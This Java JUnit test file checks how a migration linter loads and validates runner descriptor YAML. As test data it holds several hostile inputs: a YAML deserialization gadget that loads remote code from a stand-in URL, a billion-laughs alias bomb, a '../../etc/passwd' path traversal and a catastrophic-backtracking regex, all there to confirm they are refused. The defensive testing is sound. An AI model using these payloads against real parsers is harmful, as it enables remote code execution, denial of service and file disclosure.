package dev.migralint.workspace;

import dev.migralint.config.BinaryIn;
import dev.migralint.config.BinaryOut;
import dev.migralint.config.ConfigException;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Runner descriptors load like rules: every key checked, hostile YAML refused, each bundled fact cited. */
class RunnerLoaderTest {
    private static final String MINIMAL = "id: inhouse\ntransaction: wrapped\nassumption: it wraps\n";

    @Test
    void everyBundledRunnerLoadsAndCitesItsSources() {
        Map<String, String> texts = Runners.bundledTexts();
        assertTrue(texts.size() >= 18, texts.keySet().toString());
        for (String id : List.of("prisma", "flyway", "liquibase", "golang-migrate", "goose", "dbmate", "pop", "sqlx",
                "diesel", "atlas", "sqitch", "hasura", "node-pg-migrate", "graphile-migrate", "drizzle", "supabase",
                "refinery", "plain")) {
            RunnerDescriptor d = Runners.bundled().find(id);
            assertNotNull(d, id);
            assertFalse(d.sources().isEmpty(), id + " cites no source");
            assertEquals("runners/" + id + ".yml", d.file());
        }
    }

    @Test
    void theBuildsRunnerIndexHoldsExactlyTheDescriptorFiles() {
        Map<String, String> indexed = Runners.indexedTexts();
        assertNotNull(indexed, Runners.INDEX + " is missing or stale on the test class path: the build writes it");
        Map<String, String> listed = Runners.listedTexts();
        assertEquals(List.copyOf(listed.keySet()), List.copyOf(indexed.keySet()));
        assertEquals(listed, indexed);
    }

    @Test
    void theIndexHoldsWhatEachDescriptorFileLoadsTo() throws ConfigException {
        List<RunnerDescriptor> indexed = Runners.indexedDescriptors();
        assertNotNull(indexed, Runners.INDEX + " is missing or stale on the test class path: the build writes it");
        List<RunnerDescriptor> loaded = new ArrayList<>();
        for (Map.Entry<String, String> e : Runners.listedTexts().entrySet()) {
            loaded.add(RunnerLoader.load(e.getKey(), e.getValue()));
        }
        assertEquals(loaded, indexed);
        assertTrue(loaded.stream().anyMatch(d -> d.statementBlock() != null), "some runner has a statement block");
        assertEquals(loaded.size(), Runners.bundled().inDetectionOrder().size());
    }

    @Test
    void theConfigSchemaDescribesEveryDescriptorKey() throws Exception {
        // A project's runners: entries are checked by the same schema in editors: a key it lacks is flagged there.
        assertEquals(new java.util.TreeSet<>(RunnerLoader.KEYS), new java.util.TreeSet<>(
                dev.migralint.config.JsonSchemas.properties(dev.migralint.config.JsonSchemas.CONFIG, "/$defs/runner")));
    }

    @Test
    void theCodecKeepsEveryField() throws Exception {
        RunnerDescriptor every = new RunnerDescriptor("in-house", "In House", List.of("ih", "house"), 42,
                List.of(new RunnerDescriptor.Detect(List.of("goose-marker"), List.of("db/**"), List.of("x.toml"),
                        "Cargo.toml", List.of("sqlx")), new RunnerDescriptor.Detect(List.of(), List.of(), List.of(), null, List.of())),
                RunnerDescriptor.Wrapping.ALL_PENDING, "it wraps all pending",
                List.of(new RunnerDescriptor.Section("-- +up", "up", "-- +notx", true),
                        new RunnerDescriptor.Section("-- +down", "down", null, false)),
                List.of("down.sql"), List.of("verify/*.sql"), List.of(new RunnerDescriptor.Directive("-- notx", "file")),
                List.of("*.notx.sql"), List.of(new RunnerDescriptor.SideFile("metadata.toml", "here", "toml", "run_in_transaction",
                        "false", "transaction")), true, List.of(new RunnerDescriptor.VersionFrom("Cargo.lock", List.of("sqlx", "sqlx-core"))),
                "0.7.0", List.of(new RunnerDescriptor.Change("0.7.0", List.of("CREATE INDEX CONCURRENTLY"), "statement", 12,
                        "no-transaction", "since 0.7 it ...")), true,
                List.of(new RunnerDescriptor.Source("transaction", "https://example.org/docs")), "runners/in-house.yml", true,
                new RunnerDescriptor.StatementBlock("-- +begin", "-- +end"), true, "version-text",
                List.of("V.+__.*\\.sql", "R__.*\\.sql"), false);
        RunnerDescriptor none = new RunnerDescriptor("bare", null, List.of(), 500, List.of(), RunnerDescriptor.Wrapping.NONE,
                null, List.of(), List.of(), List.of(), List.of(), List.of(), List.of(), false, List.of(), null, List.of(),
                false, List.of(), null, false, null, false, null, List.of(), true);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        BinaryOut out = new BinaryOut(new DataOutputStream(bytes));
        RunnerCodec.write(out, every);
        RunnerCodec.write(out, none);
        RunnerCodec.write(out, every);
        out.flush();
        BinaryIn in = new BinaryIn(bytes.toByteArray());
        assertEquals(every, RunnerCodec.read(in));
        assertEquals(none, RunnerCodec.read(in));
        assertEquals(every, RunnerCodec.read(in), "strings written before come back by reference");
        in.end();
    }

    @Test
    void unknownKeyNamesFileLineAndNearestKey() {
        ConfigException e = assertThrows(ConfigException.class,
                () -> RunnerLoader.load("runners/x.yml", MINIMAL + "verify-checksums: true\n"));
        assertEquals("runners/x.yml", e.file());
        assertEquals(4, e.line());
        assertTrue(e.getMessage().contains("unknown key 'verify-checksums'"), e.getMessage());
        assertTrue(e.getMessage().contains("did you mean 'verifies-checksums'"), e.getMessage());

        ConfigException nested = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "sections:\n  - marker: \"-- up\"\n    direction: up\n    no-transation: x\n"));
        assertEquals(7, nested.line());
        assertTrue(nested.getMessage().contains("did you mean 'no-transaction'"), nested.getMessage());
    }

    @Test
    void runsNamesAreCheckedAtLoadAndMatchedInLinearTime() throws Exception {
        ConfigException bad = assertThrows(ConfigException.class,
                () -> RunnerLoader.load("r.yml", MINIMAL + "runs-names: ['([0-9]+_.*\\.sql']\n"));
        assertEquals(4, bad.line());
        assertTrue(bad.getMessage().contains("invalid regular expression"), bad.getMessage());
        ConfigException glob = assertThrows(ConfigException.class,
                () -> RunnerLoader.load("r.yml", MINIMAL + "down-files: ['**/[0-9*.down.sql']\n"));
        assertTrue(glob.getMessage().contains("invalid glob"), glob.getMessage());
        // A pattern that backtracks exponentially in java.util.regex: RE2/J answers at once.
        RunnerDescriptor d = RunnerLoader.load("r.yml", MINIMAL + "runs-names: ['(a+)+b']\n");
        long start = System.nanoTime();
        assertFalse(RunnerNames.runs(d, "a".repeat(200) + ".sql"));
        assertTrue(System.nanoTime() - start < 5_000_000_000L, "linear time");
        assertTrue(RunnerNames.runs(d, "db/aab"));
    }

    @Test
    void badValuesAreRefusedWithTheirLine() {
        ConfigException tx = assertThrows(ConfigException.class,
                () -> RunnerLoader.load("r.yml", "id: x\ntransaction: wraped\nassumption: a\n"));
        assertEquals(2, tx.line());
        assertTrue(tx.getMessage().contains("did you mean 'wrapped'"), tx.getMessage());
        ConfigException clue = assertThrows(ConfigException.class,
                () -> RunnerLoader.load("r.yml", MINIMAL + "detect:\n  - text: [goose-markr]\n"));
        assertTrue(clue.getMessage().contains("goose-marker"), clue.getMessage());
        ConfigException escape = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "side-files:\n  - path: ../../etc/passwd\n    format: toml\n    key: a\n    off: b\n"));
        assertTrue(escape.getMessage().contains("beside the migration"), escape.getMessage());
        ConfigException version = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "changes:\n  - since: latest\n    statements: [VACUUM]\n    says: x\n"));
        assertTrue(version.getMessage().contains("version"), version.getMessage());
        ConfigException stars = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "changes:\n  - statements: [\"A * B * C * D\"]\n    says: x\n"));
        assertTrue(stars.getMessage().contains("*"), stars.getMessage());
        assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml", "transaction: wrapped\nassumption: a\n"));
    }

    @Test
    void runnerFactsBeyondTheTransactionLoadAndAreChecked() {
        RunnerDescriptor flyway = Runners.bundled().find("flyway");
        assertTrue(flyway.changes().stream().anyMatch(c -> c.effect().equals("refuse-mixed") && "mixed".equals(c.unless())));
        assertTrue(flyway.changes().stream().anyMatch(c -> c.effect().equals("lock-wait") && "session-lock".equals(c.unless())
                && "9.1.0".equals(c.since())));
        assertTrue(flyway.sideFiles().stream().anyMatch(f -> f.setting().equals("session-lock")
                && f.key().equals("flyway.postgresql.transactional.lock")));
        assertTrue(Runners.bundled().find("liquibase").sections().stream()
                .anyMatch(s -> s.inline() && s.direction().equals("down")));

        ConfigException effect = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "changes:\n  - statements: [VACUUM]\n    effect: lock-wiat\n    says: x\n"));
        assertTrue(effect.getMessage().contains("did you mean 'lock-wait'"), effect.getMessage());
        ConfigException inline = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "sections:\n  - marker: \"-- +goose Down\"\n    direction: down\n    inline: true\n"));
        assertTrue(inline.getMessage().contains("--rollback"), inline.getMessage());
    }

    @Test
    void keysByVersionAndStatementBlocksComeFromTheDescriptors() throws ConfigException {
        java.util.Set<String> byVersion = new java.util.TreeSet<>();
        for (RunnerDescriptor d : Runners.bundled().inDetectionOrder()) {
            if (d.keysByVersion()) {
                byVersion.add(d.id());
            }
        }
        // Prisma (directory name), Drizzle and graphile-migrate (hashes), Liquibase (id, author, file) and
        // sql-migrate (the whole file name) key by more; tern keeps only the last sequence number applied.
        assertEquals(java.util.Set.of("atlas", "dbmate", "diesel", "flyway", "golang-migrate", "goose", "pop", "sqlx",
                "supabase", "tern"), byVersion);
        assertTrue(RunnerTraits.keysByVersion("goose"));
        assertFalse(RunnerTraits.keysByVersion("prisma"));
        assertFalse(RunnerTraits.keysByVersion(null));
        assertEquals("--+goosestatementbegin", Runners.bundled().find("goose").statementBlock().beginKey());

        RunnerDescriptor own = RunnerLoader.load("r.yml", MINIMAL + "keys-by-version: true\n"
                + "statement-block: {begin: \"-- begin\", end: \"-- end\"}\n");
        assertTrue(own.keysByVersion());
        assertEquals("-- end", own.statementBlock().end());
        ConfigException block = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "statement-block: {begin: \"-- begin\", ned: \"-- end\"}\n"));
        assertTrue(block.getMessage().contains("did you mean 'end'"), block.getMessage());
        ConfigException key = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                MINIMAL + "keys-by-versoin: true\n"));
        assertTrue(key.getMessage().contains("did you mean 'keys-by-version'"), key.getMessage());
    }

    @Test
    void hostileYamlIsRefused() {
        ConfigException tag = assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml",
                "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"
                        + "transaction: wrapped\nassumption: a\n"));
        assertTrue(tag.getMessage().contains("tag"), tag.getMessage());
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 0; i < 30; i++) {
            bomb.append((char) ('b' + i % 20)).append(i).append(": &").append((char) ('b' + i % 20)).append(i)
                    .append(" [*").append(i == 0 ? "a" : String.valueOf((char) ('b' + (i - 1) % 20)) + (i - 1))
                    .append(", *").append(i == 0 ? "a" : String.valueOf((char) ('b' + (i - 1) % 20)) + (i - 1)).append("]\n");
        }
        assertThrows(ConfigException.class, () -> RunnerLoader.load("r.yml", bomb.toString()));
    }

    @Test
    void anInHouseRunnerReplacesNothingAndIsFoundByAlias() throws ConfigException {
        RunnerDescriptor own = RunnerLoader.load(".migralint.yml", "id: deployer\naliases: [our-deployer]\n"
                + "transaction: all-pending\nassumption: our deployer applies every pending migration in one transaction\n"
                + "order: 1\ndetect:\n  - path: [\"db/changes/*.sql\"]\n");
        Runners runners = Runners.bundled().with(List.of(own));
        assertEquals("deployer", runners.find("our-deployer").id());
        assertEquals("deployer", runners.inDetectionOrder().get(0).id());
        assertNotNull(runners.find("goose"));
        assertTrue(own.wrapping().wraps(1));
    }
}
